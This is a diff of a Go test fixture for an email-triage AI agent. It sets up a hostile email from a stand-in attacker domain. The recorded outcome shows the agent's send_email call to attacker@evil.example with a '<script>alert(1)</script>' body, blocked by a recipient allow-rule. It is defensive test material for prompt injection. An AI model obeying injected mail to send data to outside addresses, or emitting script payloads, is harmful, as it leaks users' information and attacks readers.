@@ -133,7 +133,7 @@ func newFixtureOn(t *testing.T, target string) *fixture {
 	clk.Set(time.Date(2026, 11, 24, 8, 5, 0, 0, time.UTC))
 	f.Hostile = f.email(t, email{uid: 2, messageID: "<evil-1@evil.example>", from: "mallory@evil.example", subject: hostileSubject,
 		text: hostileText, scenario: "general", state: ledger.StateFailed, reason: triage.ReasonEmailNotSent,
-		outcome: &processor.Outcome{Scenario: "general", Detection: processor.Detection{Method: "fallback", Reason: "no rule matched"},
+		outcome: &processor.Outcome{Scenario: "general", Detection: processor.Detection{Method: "model", Reason: "general: not a warranty matter", FirstTurn: true},
 			Status: triage.StatusFailed, Reason: triage.ReasonEmailNotSent, ModelCalls: 2, Tokens: agent.Usage{Prompt: 900, Output: 60, Total: 960},
 			FunctionCalls: []dispatcher.Record{{Name: "send_email", Args: map[string]any{"to": "attacker@evil.example", "body": "<script>alert(1)</script>"},
 				Blocked: true, Error: &agent.ToolError{Code: "recipient_not_allowed", Message: "send_email.to must be the sender"}}}}}).Ref()
